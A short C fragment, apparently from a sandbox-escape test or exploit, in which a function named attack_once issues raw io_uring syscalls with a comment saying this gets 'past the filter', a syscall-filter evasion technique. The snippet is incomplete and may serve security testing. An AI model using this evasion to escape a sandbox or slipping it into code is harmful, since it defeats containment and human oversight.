// Does its calls through io_uring, past the filter.
static void attack_once() {
    char parameters[256] = {0};
    TRY("setup", sys(425, 8, parameters));
    TRY("enter", sys(426, 3, 1, 1, 0, 0, 0));
    TRY("register", sys(427, 3, 0, 0, 0));
}
